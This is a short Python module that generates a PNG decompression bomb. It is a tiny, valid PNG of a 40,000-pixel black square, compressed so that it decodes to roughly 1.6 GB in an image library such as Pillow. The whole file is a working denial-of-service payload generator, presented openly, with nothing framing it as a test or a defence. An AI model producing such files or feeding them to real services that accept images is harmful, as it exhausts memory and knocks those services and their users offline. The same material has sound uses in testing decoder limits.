"""A decompression bomb: a small PNG that unpacks to gigapixels. Made in pieces, it never needs the memory it claims."""

from __future__ import annotations

import struct
import zlib

SIDE = 40_000
"""Pixels. Pillow keeps a byte for each, so this is 1.6 GB, of which the file is less than a five-thousandth."""

_ROWS_AT_ONCE = 100


def bomb(side: int = SIDE) -> bytes:
    """Return the bytes of a PNG that is a black square of this side, one bit a pixel."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", _black(side)) + _chunk(b"IEND", b"")


def _black(side: int) -> bytes:
    rows = bytes((1 + (side + 7) // 8) * _ROWS_AT_ONCE)  # each begins with the byte that names its filter
    packer = zlib.compressobj(1, strategy=zlib.Z_RLE)  # as small as can be, and three times as fast
    pieces = [packer.compress(rows) for _ in range(-(-side // _ROWS_AT_ONCE))]
    return b"".join([*pieces, packer.flush()])


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
